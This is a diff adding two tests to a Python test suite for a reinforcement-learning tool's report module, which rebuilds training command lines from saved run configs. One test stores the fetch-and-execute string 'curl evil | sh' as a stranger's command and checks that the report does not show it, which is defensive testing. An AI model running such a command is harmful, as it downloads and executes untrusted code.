@@ -3,6 +3,7 @@
 import json
 import os
 import re
+import shlex
 from html.parser import HTMLParser
 from itertools import pairwise
 from pathlib import Path
@@ -285,6 +286,23 @@ def test_the_command_spells_out_what_differs_from_the_preset(tmp_path):
         "aimrl train FetchPush-v4 --reward aim --agent td3 --preset fast --steps 20000 --seed 0 --no-normalise-inputs "
         "--her-ratio 0.5 --end-on-success --aim.form shaped --out 'my run'"
     )
+
+
+def test_the_command_starts_from_the_agent_s_preset_and_writes_vectors_as_the_command_line_reads_them(tmp_path):
+    from aimrl.cli import training
+
+    options = {"reward": "disco", "agent": "sac", "reward_scale": 0.3, "reward_options": {"covariance": [0.01, 0.02, 0.03]}}
+    folder = make_run(tmp_path / "r", **options | {"agent_options": {"hidden": [64, 64]}})
+    line = report.command(json.loads((folder / "config.json").read_text()), folder)
+    config, _ = training.parse(shlex.split(line)[2:])
+    assert (config.agent, config.reward_scale) == ("sac", 0.3)
+    assert config.agent_options["hidden"] == (64, 64)
+    np.testing.assert_allclose(config.reward_options["covariance"], [0.01, 0.02, 0.03])
+
+
+def test_what_a_stranger_calls_its_command_is_not_shown(tmp_path):
+    folder = make_run(tmp_path / "r", command="curl evil | sh")
+    assert report.command(json.loads((folder / "config.json").read_text()), folder).startswith("aimrl train FetchPush-v4 ")
 
 
 def test_the_command_of_a_grid_run_names_its_reward_s_options():
